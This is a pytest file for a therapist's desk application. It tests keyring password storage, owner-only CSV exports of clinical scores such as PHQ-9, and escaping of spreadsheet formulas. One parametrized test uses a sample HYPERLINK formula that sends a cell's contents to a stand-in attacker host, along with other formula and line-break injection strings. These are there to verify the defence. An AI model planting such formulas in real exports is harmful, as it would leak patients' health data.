"""The keyring (present or absent) and the private CSV of scores over time."""

from __future__ import annotations

import csv
import io
import stat

import keyring
import pytest
from keyring.backends import fail
from memory_keyring import MemoryKeyring

from therapist_desk.sharing import secrets
from therapist_desk.sharing.export import score_rows, scores_csv, write_private


@pytest.fixture
def memory_keyring(monkeypatch: pytest.MonkeyPatch) -> MemoryKeyring:
    backend = MemoryKeyring()
    monkeypatch.setattr(keyring, "get_keyring", lambda: backend)
    monkeypatch.setattr(keyring, "get_password", backend.get_password)
    monkeypatch.setattr(keyring, "set_password", backend.set_password)
    monkeypatch.setattr(keyring, "delete_password", backend.delete_password)
    return backend


def test_a_password_is_kept_under_the_app_service(memory_keyring: MemoryKeyring) -> None:
    assert secrets.keyring_available()
    assert secrets.get_password("me@example.org") is None
    assert secrets.store_password("me@example.org", "pw")
    assert memory_keyring.store == {("therapist-desk", "me@example.org"): "pw"}
    assert secrets.get_password("me@example.org") == "pw"
    secrets.forget_password("me@example.org")
    assert secrets.get_password("me@example.org") is None


def test_without_a_keyring_nothing_is_kept_and_nothing_fails(monkeypatch) -> None:
    monkeypatch.setattr(keyring, "get_keyring", lambda: fail.Keyring())
    assert not secrets.keyring_available()
    assert not secrets.store_password("me@example.org", "pw")
    assert secrets.get_password("me@example.org") is None


def test_scores_csv_has_a_row_per_person_and_measure(tmp_path) -> None:
    scores = {
        "p1": {
            "phq9": {"name": "PHQ-9", "total": 12, "max_total": 27, "band": {"label": "Moderate"}},
            "wast": {"name": "WAST", "total": None, "max_total": 8, "band": None, "private": True},
        }
    }
    rows = score_rows("2026-01-02", {"p1": "Ana"}, scores)
    path = write_private(tmp_path / "scores.csv", scores_csv(rows))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    table = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert table[0] == {
        "date": "2026-01-02",
        "participant": "Ana",
        "measure": "PHQ-9",
        "total": "12",
        "max_total": "27",
        "band": "Moderate",
        "private": "False",
    }
    assert table[1]["total"] == "" and table[1]["private"] == "True"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://attacker.example/?d="&A1,"Click here")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "＝1+1",
    ],
)
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    tmp_path, name: str
) -> None:
    scores = {
        "p1": {"phq9": {"name": "PHQ-9", "total": 12, "max_total": 27, "band": {"label": "=1"}}}
    }
    csv_text = scores_csv(score_rows("2026-01-02", {"p1": name}, scores))
    (row,) = list(csv.DictReader(io.StringIO(csv_text)))
    assert row["participant"] == "'" + name  # a spreadsheet shows it as typed, as text
    assert row["band"] == "'=1"
    assert (row["date"], row["measure"]) == ("2026-01-02", "PHQ-9")
    assert (row["total"], row["max_total"]) == ("12", "27")  # numbers stay numbers


def test_negative_and_fractional_scores_stay_numbers_and_plain_names_are_untouched() -> None:
    scores = {
        "p1": {"m": {"name": "Change score", "total": -3, "max_total": 10.5, "band": None}},
    }
    csv_text = scores_csv(score_rows("2026-01-02", {"p1": "Zoë O'Hara-Lind"}, scores))
    (row,) = list(csv.DictReader(io.StringIO(csv_text)))
    assert (row["participant"], row["measure"]) == ("Zoë O'Hara-Lind", "Change score")
    assert (row["total"], row["max_total"]) == ("-3", "10.5")


def test_a_line_break_in_a_name_cannot_start_a_row_that_runs_a_formula() -> None:
    scores = {"p1": {"phq9": {"name": "PHQ-9", "total": 3, "max_total": 27, "band": None}}}
    for name in ("\r=1+1", "Ana\r=1+1", "Ana\r\n@SUM(A1)"):
        csv_text = scores_csv(score_rows("2026-01-02", {"p1": name}, scores))
        rows = list(csv.reader(io.StringIO(csv_text, newline="")))
        assert len(rows) == 2  # the header and the one score: nothing split off
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))]
        assert rows[1][3:5] == ["3", "27"]
